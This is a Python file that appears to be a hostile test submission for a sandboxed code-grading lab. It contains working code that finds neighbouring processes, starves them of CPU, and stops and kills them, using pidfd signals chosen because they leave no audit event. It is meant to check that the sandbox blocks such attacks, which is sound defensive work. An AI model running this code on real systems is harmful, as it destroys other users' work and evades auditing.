"""Hostile solution for the print_queue lab: starves, freezes and kills its
neighbours.

Attempts, during its first call, on every process of its own check and
batch it can see (its topmost optdemo ancestor and all its descendants:
the batch, the other students' checks, their workers, the trusted
workers):
1. os.setpriority(..., 19) and os.sched_setaffinity(..., {first CPU}):
   the neighbours' timings crawl on one CPU at the lowest priority;
2. starts one thread per CPU hashing a 64 MiB buffer over and over
   (hashlib releases the GIL on big buffers, so they all run at once) for
   THREAD_SECONDS, whatever this call does meanwhile;
3. signal.pidfd_send_signal(SIGSTOP), then SIGTERM, then SIGCONT, to
   each (pidfds have no audit event, unlike os.kill): a stopped process
   acts on its SIGTERM only once continued, and one left stopped would
   outlive the test (measured on the checker before the sandbox);
4. os.kill(-1, SIGTERM) and os.killpg(<its checker's group>, SIGTERM).
It aims at its own batch only, so that running it never harms a process
it has nothing to do with: step 4's kill(-1), which reaches every process
of the user, is sent only when every process it can see belongs to its
batch (inside a sandbox's own PID namespace), and killpg only to a group
the batch leads.

Unguarded it takes the whole batch down: the checker and the batch
killed, no summary, every classmate's check lost (measured on the checker
before the sandbox: the batch died of SIGTERM). It returns [], so when
nothing it does gets through, the verdict is "wrong" on the first case
whose answer is not empty, and its neighbours get theirs.
Expected verdict: wrong, on EXPECTED_CASE. What should stop it: the
sandbox's own PID namespace (no neighbour is visible), the seccomp filter
(no threads; no setpriority, sched_setaffinity, pidfd_open, kill or
pidfd_send_signal aimed at another process), and the sandbox's own uid.
Guarded: unless OPTDEMO_HOSTILE_TESTS=1, print_order raises RuntimeError at
once and touches nothing.
"""

import hashlib
import os
import signal
import threading
import time

LAB = "print_queue"
EXPECTED = "wrong"
EXPECTED_CASE = "one short job"

THREAD_SECONDS = 120               # long enough to overlap the neighbours' timings
BUFFER_BYTES = 64 << 20

attack_done = False


def require_armed():
    if os.environ.get("OPTDEMO_HOSTILE_TESTS") != "1":
        raise RuntimeError("hostile test disarmed: set OPTDEMO_HOSTILE_TESTS=1 to run it")


def parent_of(pid):
    with open("/proc/%d/stat" % pid) as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def is_optdemo(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as file:
            program = file.read().split(b"\0")[0]
    except OSError:
        return False
    return os.path.basename(program) == b"optdemo"


def visible_processes():
    """{pid: parent pid} of every process /proc shows."""
    parents = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                parents[int(name)] = parent_of(int(name))
            except (OSError, ValueError, IndexError):
                continue
    return parents


def ancestors(parents):
    """This worker's optdemo ancestors, the topmost first."""
    found, pid = [], os.getppid()
    while pid > 1 and is_optdemo(pid):
        found.insert(0, pid)
        pid = parents.get(pid, 0)
    return found


def own_batch(parents, above):
    """The topmost optdemo ancestor and its descendants, this one but."""
    if not above:                   # no ancestor visible: whatever can be seen
        return [pid for pid in parents if pid != os.getpid()]
    found, waiting = [], [above[0]]
    while waiting:
        pid = waiting.pop()
        found.append(pid)
        waiting.extend(child for child, parent in parents.items() if parent == pid)
    return [pid for pid in found if pid != os.getpid()]


def try_each(action, pids):
    for pid in pids:
        try:
            action(pid)
        except (OSError, ValueError):
            continue


def hash_for_a_while():
    buffer = bytes(BUFFER_BYTES)
    deadline = time.monotonic() + THREAD_SECONDS
    while time.monotonic() < deadline:
        hashlib.sha256(buffer).digest()      # no GIL held while it hashes


def start_hashing_threads():
    for _ in range(os.cpu_count() or 2):
        try:
            threading.Thread(target=hash_for_a_while, daemon=True).start()
        except RuntimeError:        # "can't start new thread"
            return


def send(sig):
    def action(pid):
        descriptor = os.pidfd_open(pid)
        try:
            signal.pidfd_send_signal(descriptor, sig)
        finally:
            os.close(descriptor)
    return action


def attack():
    parents = visible_processes()
    above = ancestors(parents)
    targets = own_batch(parents, above)
    try_each(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19), targets)
    try_each(lambda pid: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}), targets)
    start_hashing_threads()
    try_each(send(signal.SIGSTOP), targets)
    try_each(send(signal.SIGTERM), targets)
    # its own checker last: this worker dies with it
    try_each(send(signal.SIGCONT), [pid for pid in targets if pid not in above] + above)
    ours = set(targets) | {os.getpid()}
    try:
        if set(parents) <= ours:    # inside its own PID namespace: -1 is the batch
            os.kill(-1, signal.SIGTERM)
        group = os.getpgid(os.getppid())
        if group in ours:           # a group the batch leads, not the caller's shell
            os.killpg(group, signal.SIGTERM)
    except (OSError, ValueError):
        pass


def print_order(jobs, pages_per_turn):
    global attack_done
    require_armed()
    if not attack_done:
        attack_done = True
        try:
            attack()
        except Exception:           # whichever layer refused it, the answer below stands
            pass
    return []
